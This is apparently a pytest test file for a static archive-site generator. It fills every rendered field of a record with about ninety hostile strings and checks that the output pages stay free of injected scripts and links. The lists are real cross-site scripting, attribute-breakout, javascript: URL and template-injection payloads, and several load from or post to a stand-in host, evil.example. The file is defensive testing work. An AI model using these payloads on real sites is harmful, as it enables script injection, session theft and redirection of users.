"""Hostile words in every place that a page shows: they come out as words, and as nothing else."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from site_html import by_id, parse, problems, scripts, text_of
from site_world import AT, World, harbour

from holdfast.model import (
    FailedCapture,
    FailedRequisite,
    Hop,
    Memento,
    NamedMemento,
    Observation,
    Organisation,
    OriginalState,
    Quote,
    Record,
    RecoveredFrom,
    Relation,
    Requisites,
    Rights,
    SnapshotStatus,
    TimelineEvent,
    Tls,
)
from holdfast.site import Place, build
from holdfast.site.render import clean, safe_url

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(2)</script>",
    "</textarea></style></noscript><script>alert(3)</script>",
    "<script>alert(4)//",
    "<scr<script>ipt>alert(5)</script>",
    "</script><script>alert(6)</script>",
    "<svg><script>alert(7)</script></svg>",
    "<svg/onload=alert(8)>",
    "<math><mtext><img src=x onerror=alert(9)></mtext></math>",
    "<!--><script>alert(10)</script>-->",
    "<![CDATA[<script>alert(11)</script>]]>",
    "<xmp><script>alert(12)</script></xmp>",
    "<noscript><p title='</noscript><script>alert(13)</script>'>",
]
ELEMENTS = [
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=q>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import '//evil.example';</style>",
    "<a href=javascript:alert(1)>x</a>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<img id=documentElement name=body>",
]
ATTRIBUTES = [
    '"',
    "'",
    "`",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" style="background:url(//evil.example)',
    "&quot; onclick=&quot;alert(1)",
    "\" srcdoc='<script>alert(1)</script>",
    'x" href="javascript:alert(1)',
    '\x00" onload=alert(1)',
    '\u2028" onload=alert(1)',
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "https://a@evil.example/",
    'https://x.example/" onclick="alert(1)',
    "https://x.example/<script>",
    "http://[::1",
    "https://x.example/\u202egnp.exe",
    "file:///etc/passwd",
    "blob:https://x.example/1",
    "feed:javascript:alert(1)",
    "https:\\\\evil.example",
    "https://x.example/'><svg/onload=alert(1)>",
]
SYNTAX = [
    "{{ 7 * 7 }}",
    "{% for x in (1,) %}49{% endfor %}",
    "{{ config.__class__ }}",
    "{# gone #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<!-- holdfast:begin -->",
    "<!-- holdfast:end -->",
    "HOLDFAST-TITLE",
    "HOLDFAST-DESCRIPTION",
    "</head>",
    "</body></html>",
    "-->",
    "--!>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/p.png)",
    "[a]: javascript:alert(1)",
    "# heading { onclick=alert(1) }",
    "```html\n<script>alert(1)</script>\n```",
    "--8<-- 'holdfast.yml'",
    "<https://evil.example>",
    "| a | b |\n|---|---|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ud800 lone",
    "\u202eesrever",
    "\x1b[31m",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)",
]
VECTORS = SCRIPTS + ELEMENTS + ATTRIBUTES + LINKS + SYNTAX

EARLIER, LATER = "2020-01-01T00:00:00.000000Z", "2021-07-01T00:00:00.000000Z"


def poisoned(world: World, number: int, evil: str) -> None:
    """One record with ``evil`` in every field that its page shows, as if every check before had failed."""
    name = f"record-{number}"
    world.organisations[f"org-{number}"] = Organisation(f"org-{number}", evil, (evil,), evil, evil, ("harbour-trust",))
    record = Record(
        name,
        evil,
        "report",
        f"org-{number}",
        (evil, evil),
        "2018",
        evil,
        also_at=(evil,),
        mementos=(NamedMemento(evil, evil, evil),),
        language=evil,
        summary=evil,
        significance=evil,
        topics=(f"topic-{number}",),
        content_notes=(evil,) if number % 2 else (),
        rights=Rights(evil, evil, evil),
        quotes=(Quote(evil, 1, evil),),
        relations=(Relation(evil, "operating-guide"),),
    )
    capture = world.capture(name, f"content {number}".encode(), evil)
    payload = replace(
        capture.payload,
        declared_type=evil,
        filename=evil,
        last_modified=evil,
        content_encoding=evil,
        etag=evil,
        wire_sha256="0" * 64,
    )
    capture = replace(
        capture,
        requested_url=evil,
        final_url=f"{evil}2",
        payload=payload,
        title=evil,
        hops=(Hop(evil, 301, AT, evil, evil), Hop(evil, 200, AT, evil, evil, Tls(evil, evil, evil))),
        requisites=Requisites(3, 1, (FailedRequisite(evil, evil),)),
        circumstances={"software": evil, "resolve": evil, "ca": evil},
    )
    world.text(capture, [evil, f"Words. {evil} More words.\n{evil}"])
    earlier = world.capture(
        name, f"earlier {number}".encode(), evil, id=f"20200101T000000.000000Z-{number:08x}", finished=EARLIER
    )
    world.text(earlier, [f"{evil} 14", f"Words. More words, not {evil}"])
    recovered = RecoveredFrom(evil, evil, evil, evil)
    other = world.capture(name, f"other {number}".encode(), evil, id=evil, origin="memento", recovered_from=recovered)
    looks = [Observation(name, LATER, evil, outcome, 404, evil, evil, evil) for outcome in ("missing", "moved")]  # type: ignore[arg-type]
    failure = FailedCapture(name, evil, evil, evil, "2022-01-01T00:00:00.000000Z", "2022-01-01T00:00:00.000000Z", 500)  # type: ignore[arg-type]
    memento = Memento(evil, evil, evil, evil, evil, evil)  # type: ignore[arg-type]
    status = SnapshotStatus(name, evil, evil, AT, evil, memento if number % 3 else None)  # type: ignore[arg-type]
    world.add(
        record,
        captures=(capture, earlier, other),
        absences=(capture,),
        observations=tuple(looks),
        failures=(failure,),
        snapshots=(status,),
        original=OriginalState("gone", evil, evil, evil, 4, evil, evil),
    )
    world.events.append(TimelineEvent(evil if number % 2 else "2018", evil, (name,)))


def test_the_list_of_vectors_is_long_and_varied() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 90


def test_hostile_words_in_every_field_stay_words(theme: Path, tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    build(harbour(tmp_path / "a").inputs(), Place(theme, plain))
    allowed = {script for path in plain.rglob("*.html") for script in scripts(parse(path.read_bytes()))}

    world = harbour(tmp_path / "b")
    for number, evil in enumerate(VECTORS):
        poisoned(world, number, evil)
    site = tmp_path / "site"
    build(world.inputs(signed=False), Place(theme, site))

    found = {}
    for path in sorted(site.rglob("*.html")):
        wrong = problems(parse(path.read_bytes()), allowed)
        if path.name == "404.html":
            wrong = [one for one in wrong if "outside" not in one]
        if wrong:
            found[path.name] = wrong
    assert found == {}
    assert len(list((site / "records").glob("record-*.html"))) == len(VECTORS)


def test_hostile_words_are_shown_as_they_are_written(theme: Path, tmp_path: Path) -> None:
    world = harbour(tmp_path / "world")
    for number, evil in enumerate(VECTORS):
        poisoned(world, number, evil)
    site = tmp_path / "site"
    build(world.inputs(), Place(theme, site))
    for number, evil in enumerate(VECTORS):
        tree = parse((site / f"records/record-{number}.html").read_bytes())
        title = next(node for node in tree.iter("h1") if node.get("id") == "title")
        assert text_of(title) == clean(evil)
        assert len(list(tree.iter("h1"))) == 1
        assert len([node for node in tree.iter("section") if node.get("data-page")]) == 2


def test_pages_of_hostile_records_have_the_same_skeleton_as_those_of_harmless_ones(theme: Path, tmp_path: Path) -> None:
    def skeleton(evil: str, name: str) -> list[str]:
        world = World(tmp_path / name)
        world.organisations = dict(harbour(tmp_path / f"{name}-h").organisations)
        world.add(Record("operating-guide", "Guide", "guidance"))
        poisoned(world, 1, evil)
        build(world.inputs(), Place(theme, tmp_path / f"{name}-site"))
        tree = parse((tmp_path / f"{name}-site/records/record-1.html").read_bytes())
        by_id(tree, "changes").clear()  # how many marks stand there depends on the words, by its nature
        return [node.tag for node in tree.iter() if isinstance(node.tag, str)]

    harmless = skeleton("words", "plain")
    for number, evil in enumerate([SCRIPTS[2], ELEMENTS[0], ATTRIBUTES[7], SYNTAX[7], SYNTAX[0]]):
        assert skeleton(evil, f"evil{number}") == harmless


def test_only_plain_web_addresses_become_links() -> None:
    assert [link for link in VECTORS if safe_url(link)] == []
    for good in (
        "https://x.example/a?b=c#d",
        "http://x.example",
        "https://x.example:8443/ä/%20",
        "https://x.example/web/*/y",
    ):
        assert safe_url(good) == good
